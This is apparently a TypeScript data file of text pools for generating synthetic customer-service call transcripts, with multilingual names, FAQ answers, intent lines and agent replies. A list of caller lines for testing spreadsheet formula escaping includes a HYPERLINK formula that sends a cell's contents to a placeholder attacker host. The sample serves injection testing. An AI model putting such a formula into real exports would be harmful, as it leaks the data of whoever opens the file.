// The text pools conversations are written from: what callers and agents say, and the
// names, pages and days their facts are drawn from. Pure data, read by conversation-text.ts
// and skeleton.ts; the order of every list is part of the seeded output.

export const PAGE_PATHS = [
  '/help/shipping',
  '/help/returns?utm_source=newsletter&utm_medium=email',
  '/products/trail-runner-2?color=blue',
  '/checkout',
  '/account/orders',
  '/de/hilfe/rücksendung',
  '/',
  '/search?q=größe+tabelle',
] as const;

export const CUSTOMER_NAMES = [
  'Zoë Müller',
  'François Dubois',
  'Jürgen Weiß',
  'Ana María López',
  '山田 太郎',
  'Øyvind Hansen',
  'Siobhán O\'Neill',
  'Chloé Bernard',
  'Mehmet Yılmaz',
  'Priya Natarajan',
  'John "Jack" Smith',
  'Łukasz Nowak',
  'Renée Fischer',
  'Björn Andersson',
  'Wang Fang (王芳)',
  'Alex Kim',
] as const;

export const FAQ_QUESTIONS = [
  'How long does delivery take to Switzerland?',
  'Do you ship to the Åland Islands?',
  'What are your opening hours on Saturday?',
  'Can I pay by invoice, or only by card?',
  'Is the "Trail Runner 2" waterproof?',
  'Where do I find the size chart, the one with EU sizes?',
  'Do you have a store in München?',
  'Wie lange dauert der Versand nach Zürich?',
  'Is there a student discount, 10 % or so?',
  'Can I change the delivery address after ordering?',
  'What does "processing" mean on my order page?',
  '日本への発送はできますか？',
] as const;

export const FAQ_ANSWERS = [
  'Delivery takes 2–4 working days within Europe.',
  'Yes, we ship there; customs fees may apply.',
  'On Saturdays we are open from 9:00 to 14:00.',
  'You can pay by card, PayPal or invoice (invoice up to 500 €).',
  'It is water-resistant, not fully waterproof.',
  'The size chart is at the bottom of every product page, under "Size & fit".',
  'Our Munich store is at Sendlinger Straße 12.',
  'Der Versand in die Schweiz dauert 3–5 Werktage.',
  'Students get 10 % off with a valid student ID.',
  'Yes, as long as the order has not shipped yet.',
  '"Processing" means we are packing your order right now.',
  'はい、日本への発送も承っております。',
] as const;

export const INTENT_LINES: Record<string, readonly string[]> = {
  lookup_order: [
    'I want to know what happened to my order {order}.',
    'My order {order} still says "processing", is that normal?',
    'Hi, where is my order? The number is {order}.',
  ],
  track_shipment: [
    'My parcel was supposed to arrive yesterday.',
    'Where is my package? Tracking says "in transit" for five days.',
    'The courier left a note, but I was home the whole time 😡',
  ],
  start_return: [
    'I would like to return the shoes, they are too small.',
    'Can I send back part of order {order}?',
    'The jacket arrived damaged, I want to return it.',
  ],
  faq: ['I have a quick question.', 'Just a general question, please.', 'Eine kurze Frage bitte.'],
  book_appointment: [
    'I would like to book an appointment in the showroom.',
    'Can I come by on {day} for a fitting?',
    'Do you have a slot next week?',
  ],
  reschedule_appointment: [
    'I need to move my appointment, something came up.',
    'Can we do {day} instead?',
  ],
  check_invoice: [
    'I have a question about invoice {invoice}.',
    'Why is invoice {invoice} higher than the order total?',
  ],
  update_payment: ['Can you send me a link to pay the open invoice?', 'My card was declined, how else can I pay?'],
  take_message: [
    'Please have someone call me back tomorrow morning.',
    'Can you pass on a message to the team?',
  ],
  transfer_to_human: ['Can I please talk to a real person?', 'I want to speak to a human, now.', 'Agent. AGENT!'],
  end: ['No, that was all, thanks.', "That's everything, bye!", 'Nein danke, das war alles.'],
};

/** What the caller says when the agent needs the details for a tool node. */
export const PROVIDE_LINES: Record<string, readonly string[]> = {
  identify_caller: ['My number is {phone}.', 'It is {name}, customer since 2019, my e-mail is {email}.', 'Sure, it is {email}.'],
  lookup_order: ['The order number is {order}.', 'It is {order}, A as in Alpha.', '{order}, I think.'],
  track_shipment: ['Tracking number? It is the same as the order, {order}.', 'Order {order}.'],
  start_return: ['Both pairs from order {order}, please.', 'Just the jacket, order {order}.'],
  book_appointment: ['{day} afternoon would be ideal.', 'Any time on {day}, the earlier the better.'],
  reschedule_appointment: ['Move it to {day}, please.', 'The appointment on Tuesday, to {day}.'],
  check_invoice: ['Invoice {invoice}. I paid it from {iban}.', 'The number is {invoice}, from last month, reference {orderRef}.'],
  update_payment: ['By SMS please, to {phone}.', 'E-mail is better, to {email}. Or take the card {card}.'],
  take_message: ['Please tell them: "call me back after 5 pm at {phone}", thanks.', 'My name is {name}, it is about order {order}.'],
};

export const CALLER_FILLERS = [
  'Yes.',
  'Okay, thanks.',
  'Hmm, let me check…',
  'Sure, it is {order}.',
  'My name is {name}.',
  'Sorry, can you repeat that?',
  'Right, and then?',
  'It was delivered to "the neighbour", apparently.',
  'I already called twice, honestly.',
  'Perfect 👍',
  'Ja, genau.',
  'Great, merci!',
] as const;

/** Caller lines that begin with a spreadsheet formula character. */
export const FORMULA_LINES = [
  '=1+1 is what the website showed me as total',
  '+49 151 23456789 is my number, call me back',
  '-- hello? is anyone there?',
  '@support I need help with my order',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  '+++ urgent +++ my parcel is lost',
  '-5 € discount was missing on the bill',
] as const;

export const EMOJI = [' 🙂', ' 👍', ' 😡', ' 📦', ' 🙏', ' 🎉', ' 🤷‍♀️'] as const;

export const AGENT_ASK = [
  'How can I help you?',
  'What can I do for you today?',
  'Could you tell me a bit more?',
  'What is it about?',
  'What do you need help with?',
  'Tell me what you are looking for.',
  'What would you like to do?',
  'Which order or question is it about?',
] as const;

export const AGENT_ASK_DE = [
  'Wie kann ich helfen?',
  'Worum geht es?',
  'Was kann ich für Sie tun?',
  'Können Sie mir mehr dazu sagen?',
  'Welche Bestellung betrifft es?',
  'Was möchten Sie erledigen?',
] as const;

/** What the agent asks at the `anything_else` node. */
export const ANYTHING_ELSE = [
  'Is there anything else I can help with?',
  'Can I help you with anything else?',
  'Anything else I can do for you today?',
  'Is there something else on your mind?',
  'Do you need help with anything else?',
] as const;

export const ANYTHING_ELSE_DE = [
  'Kann ich sonst noch etwas für Sie tun?',
  'Haben Sie noch ein weiteres Anliegen?',
  'Darf ich Ihnen sonst noch helfen?',
  'Gibt es noch etwas, das ich für Sie tun kann?',
  'Brauchen Sie sonst noch etwas?',
] as const;

/** What the agent says before a tool call when the tool's own announcement was said already. */
export const HOLD_LINES = [
  'One moment please.',
  'Just a second, I am checking.',
  'Bear with me a moment.',
  'Let me check that again.',
] as const;

export const AGENT_ACK = [
  'Thanks, got it.',
  'Understood.',
  'All right, I have noted that.',
  'Thank you, {name}.',
] as const;

export const TOOL_OK_LINES: Record<string, readonly string[]> = {
  find_customer: ['Thanks, {name}, I found your account.', 'I have your customer record in front of me.'],
  lookup_order: [
    'Your order {order} has shipped and should arrive on {day}.',
    'Order {order} is being packed right now.',
    'I see order {order}: 2 items, total 89.90 €, status "delivered".',
  ],
  track_shipment: ['Your parcel is in the local depot and arrives {day}.', 'The carrier says: out for delivery.'],
  create_return: ['Done. The return label is on its way to your e-mail.', 'The return is registered; the label comes by e-mail.'],
  check_availability: ['On {day} I have 9:30, 11:00 and 15:15 free.', 'There is still room on {day} at 10:00 and 14:30.', 'On {day} only 16:45 is left.'],
  book_appointment: ['You are booked for {day}. You will get a confirmation by SMS.', 'All set for {day}; the confirmation is on its way.'],
  reschedule_appointment: ['Your appointment is moved to {day}.', 'Done, we will see you on {day} instead.'],
  get_invoice: ['Invoice {invoice} is 129.90 €, due on {day}.', 'I see invoice {invoice}: it is still open.'],
  send_payment_link: ['I have sent the payment link, it is valid for 24 hours.', 'The link is on its way to you.'],
  create_ticket: ['I have passed this on; someone will call you back tomorrow.', 'Your message is noted for the team.'],
};

export const TOOL_FAIL_LINES = [
  'I am sorry, I cannot reach our system at the moment.',
  'Hmm, that did not work, the system timed out.',
  'Sorry, something went wrong on our side.',
] as const;

export const TRANSFER_LINES = [
  'I am connecting you with a colleague now, please hold.',
  'Let me transfer you to someone from the team.',
  'One moment, I will put you through to a human colleague.',
] as const;

export const BYE_LINES = [
  'Thank you for calling, goodbye!',
  'Have a great day!',
  'Glad I could help. Bye!',
] as const;

export const BYE_LINES_DE = ['Vielen Dank und einen schönen Tag!', 'Auf Wiederhören!'] as const;

export const HANGUP_LAST_LINES = ['Wait, I have to…', 'Hello? The line is bad', 'Forget it.', 'Hmm.'] as const;

export const VOICEMAIL_LINES = [
  'Hello, this is {company} calling about your order {order}. Please call us back. Thank you!',
] as const;

export const WEEKDAYS = ['Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday'] as const;
